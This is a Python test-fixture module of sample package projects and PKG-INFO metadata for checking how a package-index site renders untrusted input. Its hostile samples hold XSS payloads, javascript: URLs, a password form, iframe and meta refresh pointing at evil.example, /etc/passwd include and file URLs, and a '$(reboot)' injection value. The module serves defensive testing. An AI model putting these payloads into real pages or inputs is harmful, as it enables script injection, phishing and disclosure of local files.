"""Projects of a site, from ordinary to hostile, with their PKG-INFO."""

from __future__ import annotations

from dataclasses import dataclass, replace
from hashlib import sha256

from sdist_upip.site.catalog import CatalogEntry
from sdist_upip.site.records import PackedMember, ProjectRecord, ReleaseRecord, SiteFile

ALERT = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'`"
"""Text that would run a script in a page that does not escape it."""

OVERRIDE = "gpj.\u202eexe\u2066\u2069\u202c"
"""Text with characters that reverse its direction."""

CONTROLS = "a\x00b\x07c\x1b[31md\x7fe\x85f\ufffeg\U0010ffff"
"""Text with characters that HTML and XML do not allow."""


@dataclass(frozen=True)
class Sample:
    """A project, its PKG-INFO, the projects that require it, and where it is from in the table."""

    title: str
    record: ProjectRecord
    metadata: bytes = b""
    required_by: tuple[str, ...] = ()

    @property
    def entry(self) -> CatalogEntry:
        return CatalogEntry.from_project(self.record)


def make_release(version="1.0", name="sample", **values) -> ReleaseRecord:
    """Return a release with two modules, and `values` in place of its own."""
    digest = sha256(f"{name} {version}".encode()).hexdigest()
    filename = f"{name.replace('-', '_')}-{version}.tar.gz"
    release = ReleaseRecord(
        version=version,
        filename=filename,
        sha256=digest,
        size=1234,
        unpacked=8192,
        window=4096,
        sources=(),
        metadata_sha256=digest,
        time=1_700_000_000,
        requires=(),
        requires_python=">=3.4",
        summary="A sample for tests",
        author="Ada Example",
        license="MIT",
        urls=(("Homepage", "https://sample.example/"),),
        members=(
            PackedMember("PKG-INFO", 300, 180),
            PackedMember("setup.py", 140, 90),
            PackedMember(f"{name}/__init__.py", 2000, 700),
            PackedMember(f"{name}/core.py", 900, 200),
        ),
        overhead=64,
        files=(
            SiteFile(f"{name}/__init__.py", digest, 2000),
            SiteFile(f"{name}/core.py", digest, 900),
        ),
        compiled=None,
        abi="",
        imports_pkg_resources=False,
        provides_pkg_resources=False,
    )
    return replace(release, **values)


def make_metadata(description="", content_type="text/markdown", name="sample") -> bytes:
    """Return PKG-INFO with a description, and without its type if that is None."""
    typed = f"Description-Content-Type: {content_type}\n" if content_type is not None else ""
    head = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n{typed}\n"
    return f"{head}{description}".encode("utf-8", "surrogatepass")


def make_project(name, *releases, spellings=()) -> ProjectRecord:
    """Return a project with these releases, one without any."""
    return ProjectRecord(name, tuple(spellings), releases or (make_release(name=name),))


MARKDOWN = """\
# picoweb

A tiny web server for boards, with `async` handlers and **no** dependencies.
![build](https://badge.example/build.svg) [documentation](https://picoweb.example/docs)
[a file of the repository](docs/more.md)

## Use

```python
import picoweb

app = picoweb.App()

@app.route("/")
async def index(request):
    return "Hello from a board"  # a comment

app.run(host="0.0.0.0", port=80)
```

### Handlers

| handler | memory | answers |
|---|--:|---|
| static files | 1.2 KB | from flash, in pieces |
| templates | 3.4 KB | line by line |

- [x] works on 1.19
- [ ] works on a potato

> [!NOTE]
> Start the network first. See [Use](#use).

##### A heading that skips levels

A footnote[^1].

[^1]: The note.
"""

RST = """\
Sensors
=======

Readings of *sensors* over ``I2C``.

.. code-block:: python

    import sensors
    print(sensors.read(0x40))

.. note:: The pull-up resistors are yours.

Table
-----

====== =====
Sensor Range
====== =====
A      1-2
B      2-3
====== =====

.. image:: https://badge.example/a.svg
   :target: https://sensors.example/
"""

HOSTILE_MARKDOWN = f"""\
{ALERT}

[link](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)
<a href="vbscript:x">v</a>
<a href="//evil.example/x">no scheme</a> <a href="../../index.html" onclick="alert(1)">relative</a>

</div></main></body></html><style>body{{display:none}}</style>

<h1 id="main" class="warning note copy">A heading</h1><h6>deep</h6><h2>up</h2>
<form action="https://evil.example"><input name=q type=password><button>Send</button></form>
<iframe src="https://evil.example"></iframe><object data="x"></object><svg onload=alert(1)></svg>
<p id="x y">a</p><p id="install">b</p><p id="install">c</p><tt>old</tt><center>old</center>
<table><tr><td colspan="99999999">wide</td></tr></table><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">&#8238;reversed&#0;&#x1F;&#xFFFE;
{CONTROLS.replace(chr(0), "")} {OVERRIDE}
"""

SAMPLES = (
    Sample(
        "ordinary, with everything",
        make_project(
            "picoweb",
            make_release(
                "1.8.2",
                "picoweb",
                requires=(
                    "logging>=0.6",
                    "Pkg.Resources",
                    'extra-thing; extra == "dev"',
                    "sensors",
                ),
                summary="A tiny web server for boards, with templates and static files",
                urls=(
                    ("Homepage", "https://picoweb.example/"),
                    ("Source", "https://code.example/ada/picoweb"),
                ),
                members=(
                    PackedMember("PKG-INFO", 2900, 1290),
                    PackedMember("setup.py", 180, 120),
                    PackedMember("picoweb/__init__.py", 9120, 2812),
                    PackedMember("picoweb/utils.py", 1200, 402),
                    PackedMember("picoweb/static/index.html", 800, 260),
                    PackedMember("picoweb/static/logo.png", 4100, 4065),
                ),
                size=9143,
                overhead=194,
                files=tuple(
                    SiteFile(path, "0" * 64, size)
                    for path, size in (
                        ("picoweb/__init__.py", 9120),
                        ("picoweb/utils.py", 1200),
                        ("picoweb/static/index.html", 800),
                        ("picoweb/static/logo.png", 4100),
                    )
                ),
                compiled=(
                    SiteFile("picoweb/__init__.mpy", "0" * 64, 5200),
                    SiteFile("picoweb/utils.mpy", "0" * 64, 700),
                ),
                deps=(("logging", "0.6.1"), ("pkg-resources", "1.0")),
                without=("sensors",),
            ),
            make_release("1.8.1", "picoweb", time=1_690_000_000),
            make_release(
                "1.8.0", "picoweb", time=1_680_000_000, yanked="Leaks a socket for each request"
            ),
            make_release("1.9.0rc1", "picoweb", time=0),
            spellings=("picoweb", "PicoWeb"),
        ),
        make_metadata(MARKDOWN),
        ("dashboard", "sensors"),
    ),
    Sample(
        "reStructuredText, a missing requirement",
        make_project(
            "sensors",
            make_release(
                "0.3", "sensors", requires=("bus-driver",), missing=("bus-driver",), time=0
            ),
        ),
        make_metadata(RST, "text/x-rst; charset=UTF-8"),
    ),
    Sample(
        "plain text, machine code",
        make_project(
            "fast-math",
            make_release(
                "2.0",
                "fast_math",
                abi="mpy-6.3.5",
                window=32768,
                members=(PackedMember("fast_math.mpy", 9000, 8000),),
                files=(SiteFile("fast_math.mpy", "0" * 64, 9000),),
                license="",
                author="",
                summary="",
                urls=(),
            ),
        ),
        make_metadata("One line.\n\n    indented <b>not bold</b>\n", "text/plain"),
    ),
    Sample(
        "bytecode, two missing requirements, one release inlined",
        make_project(
            "dashboard",
            make_release(
                "3.0",
                "dashboard",
                requires=("picoweb<1.8", "gone", "lost>=2"),
                missing=("gone", "lost"),
                inlined=(("picoweb", "1.7"),),
                files=(SiteFile("dashboard.mpy", "0" * 64, 900),),
            ),
        ),
    ),
    Sample(
        "all yanked",
        make_project(
            "withdrawn",
            make_release("1.0", "withdrawn", yanked=""),
            make_release("1.1", "withdrawn", yanked=f"Broken: {ALERT} {OVERRIDE}"),
        ),
    ),
    Sample(
        "pre-releases and odd versions only",
        make_project(
            "early",
            make_release("1!2.0.dev3+local.7", "early"),
            make_release("1.0.post1.dev0", "early", time=-5),
            make_release("0.1a1", "early", time=10**15),
        ),
    ),
    Sample("no description type", make_project("untyped"), make_metadata("*a* ``b``", None)),
    Sample(
        "Markdown that claims to be reStructuredText",
        make_project("mislabeled"),
        make_metadata("# Title\n\n```\ncode\n```\n`broken\n", "text/x-rst"),
    ),
    Sample(
        "reStructuredText that reads files and never ends",
        make_project("including"),
        make_metadata(
            ".. include:: /etc/passwd\n\n.. raw:: html\n\n   <script>alert(1)</script>\n",
            "text/x-rst",
        ),
    ),
    Sample(
        "unknown type",
        make_project("unknown-type"),
        make_metadata(f"<b>text</b> {ALERT}", "application/x-secret; a=b; ="),
    ),
    Sample("UNKNOWN as description", make_project("unknown"), make_metadata("UNKNOWN\n", None)),
    Sample("PKG-INFO that is not text", make_project("binary"), b"\xff\x00\xfe"),
    Sample(
        "hostile Markdown and fields",
        make_project(
            "hostile",
            make_release(
                "1.0",
                "hostile",
                summary=f"{ALERT} {OVERRIDE} {CONTROLS}",
                author=f"{ALERT}{OVERRIDE}",
                license=f"{ALERT}{CONTROLS}",
                requires_python=f">=3.4{ALERT}",
                requires=(
                    f"a{ALERT}",
                    "sensors>=1",
                    "../../index",
                    "",
                    "x @ https://evil.example/x",
                ),
                missing=(ALERT, "$(reboot)", "a'b"),
                urls=(
                    ("Bad", "javascript:alert(1)"),
                    ("Data", "data:text/html,x"),
                    ("File", "file:///etc/passwd"),
                    ("Relative", "//evil.example"),
                    ("User", "https://sensors.example@evil.example/"),
                    ("Broken", "https://[::1"),
                    ("Port", "https://evil.example:99999999/"),
                    ("Control", "https://evil.example/\x00\n"),
                    ("Quote", 'https://evil.example/"onmouseover="alert(1)'),
                    ("Long", f"https://evil.example/{'a' * 5000}"),
                    (f"{ALERT}{OVERRIDE}", "HTTPS://good.example/%41?a=b&c=d#e"),
                    ("", "https://unlabeled.example/ü?a=b&amp;c"),
                ),
                members=(
                    PackedMember(f"{ALERT}{OVERRIDE}.py", 10, 0),
                    PackedMember(CONTROLS, 10**12, 10**12),
                ),
                size=0,
                abi=f"mpy-6 {ALERT}",
            ),
            spellings=("Hostile",),
        ),
        make_metadata(HOSTILE_MARKDOWN),
        ("sensors", "no-page"),
    ),
    Sample(
        "giant text",
        make_project(
            "giant",
            make_release(
                "1.0",
                "giant",
                summary="word " * 20_000,
                author="W" * 100_000,
                license="line\n" * 5_000,
                requires=tuple(f"package-{number}>=1" for number in range(300)),
                members=tuple(PackedMember(f"giant/{'d' * 60}/{n}.py", n, n) for n in range(300)),
                size=300 * 150,
            ),
        ),
        make_metadata("<b>" * 200_000),
    ),
    Sample(
        "elements within elements",
        make_project("nested"),
        make_metadata("> " * 3000 + "deep\n\n" + "<div><span>" * 2000 + "* " * 500),
    ),
    Sample("a name as long as names are", make_project("n" * 100)),
    Sample(
        "other languages",
        make_project(
            "world",
            make_release(
                summary="פרויקט لوحة 電子工作 ☕ naïve — 𝔘", author="Zoë Ångström 🙂‍↔️", name="world"
            ),
        ),
        make_metadata("# Überschrift\n\nעברית، العربية, 日本語, \u200bzero, नमस्ते\n"),
    ),
)
"""Records that a page is made of, each with something of its own."""

LINKED = frozenset(sample.record.name for sample in SAMPLES)
"""The names that have a page."""


def find_sample(name: str) -> Sample:
    """Return the sample of a project."""
    return next(one for one in SAMPLES if one.record.name == name)
